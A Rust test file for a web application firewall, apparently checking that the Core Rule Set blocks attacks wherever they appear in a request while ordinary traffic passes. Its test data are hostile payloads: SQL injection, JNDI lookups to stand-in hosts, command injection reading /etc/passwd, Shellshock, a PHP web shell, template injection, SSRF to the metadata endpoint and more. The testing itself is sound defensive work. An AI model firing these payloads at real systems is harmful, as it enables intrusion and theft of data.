//! With the published Core Rule Set, attacks are denied wherever they stand, and what people send
//! passes.

mod site;

use fosse_harness::{Backend, Client};
use site::{ask, core_rule_set, edge, everywhere, in_heads, request, rules, status, with_core_rule_set};

const MULTIPART: &str = "Content-Type: multipart/form-data; boundary=XX";

fn multipart(value: &str) -> Vec<u8> {
    format!("--XX\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{value}\r\n--XX--\r\n").into_bytes()
}

#[test]
fn attacks_are_denied_in_every_place_and_ordinary_requests_pass() {
    let Some(from) = core_rule_set() else { return };
    let backend = Backend::start();
    let (form, json, xml) = (
        "Content-Type: application/x-www-form-urlencoded",
        "Content-Type: application/json",
        "Content-Type: application/xml",
    );
    let rules = with_core_rule_set(&from);
    let edge = edge(&backend, &rules, "");
    let attacks: Vec<(&str, Vec<u8>)> = vec![
        ("query", request("GET /?q=1%27%20OR%20%271%27=%271", &[], b"")),
        ("path", request("GET /shop/.git/config", &[], b"")),
        ("header", request("GET /", &["X-A: ${jndi:ldap://x.example/a}"], b"")),
        ("cookie", request("GET /", &["Cookie: a=<script>alert(1)</script>"], b"")),
        ("form", request("POST /", &[form], b"a=%3Cscript%3Ealert(1)%3C/script%3E")),
        ("multipart", request("POST /", &[MULTIPART], &multipart("; cat /etc/passwd"))),
        ("JSON", request("POST /", &[json], br#"{"a":{"b":["1' UNION SELECT password FROM users--"]}}"#)),
        ("XML", request("POST /", &[xml], b"<a><b>1' UNION SELECT password FROM users--</b></a>")),
    ];
    for (place, attack) in attacks {
        let response = ask(&edge, &attack).unwrap();
        assert_eq!(response.status, 403, "{place}: {}", edge.log());
    }
    assert_eq!(backend.requests(), 0);
    let ordinary: Vec<(&str, Vec<u8>)> = vec![
        ("page", request("GET /", &[], b"")),
        ("search", request("GET /search?q=select+a+nice+table+from+the+catalogue&page=2", &[], b"")),
        ("form", request("POST /", &[form], b"name=Ann+O%27Neil&text=I%27d+like+to+order+and+pay+by+card.")),
        ("upload", request("POST /", &[MULTIPART], &multipart("a plain text file\r\nwith two lines"))),
        ("JSON", request("POST /", &[json], br#"{"user":{"name":"Ann","tags":["a","b"]},"n":[1,2,3.5,null]}"#)),
        ("XML", request("POST /", &[xml], b"<order id=\"7\"><item>Shoes &amp; socks</item></order>")),
        ("cookies", request("GET /", &["Cookie: _ga=GA1.2.1234567890.1600000000; sid=0f3c2a"], b"")),
    ];
    for (what, one) in &ordinary {
        assert_eq!(status(&edge, one), 200, "{what}: {}", edge.log());
    }
    assert_eq!(backend.requests(), ordinary.len());
    assert_eq!(status(&edge, &request("POST /", &[json], b"{\"a\":")), 400, "a body that is not what it says");
}

#[test]
fn attacks_of_every_family_are_denied_in_every_place() {
    let Some(from) = core_rule_set() else { return };
    let backend = Backend::start();
    let rules = with_core_rule_set(&from);
    let edge = edge(&backend, &rules, "");
    let denied = |attack: &str, place: &str, request: &[u8]| {
        assert_eq!(status(&edge, request), 403, "{attack} in {place}: {}", edge.log());
    };
    // Above the first line what is seen in heads as well; below, where the set looks for it at
    // paranoia level 1.
    for attack in [
        "<script>alert(1)</script>",
        "${jndi:ldap://198.51.100.7/a}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
        "java.lang.Runtime.getRuntime().exec('id')",
    ] {
        in_heads(attack).iter().for_each(|(place, request)| denied(attack, place, request));
        everywhere(attack).iter().for_each(|(place, request)| denied(attack, place, request));
    }
    for attack in [
        "1' AND SLEEP(5)-- -",
        "../../../../etc/passwd",
        "() { :;}; /bin/bash -c id",
        "a;${IFS}cat${IFS}/etc/passwd",
        "<?php system($_GET['c']); ?>",
        "{{constructor.constructor('alert(1)')()}}",
        "require('child_process').exec('id')",
        "{\"$where\":\"sleep(1000)\"}",
        "file:///etc/passwd",
    ] {
        everywhere(attack).iter().for_each(|(place, request)| denied(attack, place, request));
    }
    for (what, one) in [
        ("SSRF", request("GET /?u=http://169.254.169.254/latest/meta-data/", &[], b"")),
        ("LDAP", request("GET /?u=*)(uid=*))(|(uid=*", &[], b"")),
        ("scanner", request("GET /", &["User-Agent: sqlmap/1.7"], b"")),
    ] {
        denied(what, "its place", &one);
    }
    assert_eq!(backend.requests(), 0);
}

#[test]
fn a_denied_head_request_costs_nobody_anything() {
    let backend = Backend::start();
    let rules = rules("SecRule ARGS \"@contains bad\" \"id:1,phase:2,deny,status:406\"\n");
    let edge = edge(&backend, &rules, "");
    let mut other = Client::connect(edge.address());
    other.send(&request("GET /?a=good", &[], b""));
    assert_eq!(other.response().status, 200);
    let mut client = Client::connect(edge.address());
    client.send(&request("HEAD /?a=bad", &[], b""));
    let response = client.try_response(true).expect("a response");
    assert_eq!((response.status, response.body.len()), (406, 0));
    other.send(&request("GET /?a=good", &[], b""));
    assert_eq!(other.response().status, 200, "on the same connection of the same lane");
}

#[test]
fn a_mode_that_only_watches_lets_attacks_pass_and_says_so() {
    let Some(from) = core_rule_set() else { return };
    let backend = Backend::start();
    let rules = with_core_rule_set(&from);
    let edge = edge(&backend, &rules, "waf = \"detect\"");
    assert_eq!(status(&edge, &request("GET /?q=1%27%20OR%20%271%27=%271", &[], b"")), 200);
    edge.wait_for_log("event=detected");
    edge.wait_for_log("942100");
    assert_eq!(edge.counter("waf-filter", "detected"), 1);
}

#[test]
fn exclusions_let_one_argument_of_one_path_pass() {
    let Some(from) = core_rule_set() else { return };
    let backend = Backend::start();
    let rules = with_core_rule_set(&from);
    let exclude = "[[site.exclude]]\nrules = [\"942000-942999\"]\npath = \"/sql\"\nargument = \"query\"";
    let edge = edge(&backend, &rules, exclude);
    let attack = "=1%27%20OR%20%271%27=%271";
    assert_eq!(status(&edge, &request(&format!("GET /sql?query{attack}"), &[], b"")), 200);
    assert_eq!(status(&edge, &request(&format!("GET /sql?other{attack}"), &[], b"")), 403);
    assert_eq!(status(&edge, &request(&format!("GET /?query{attack}"), &[], b"")), 403);
}
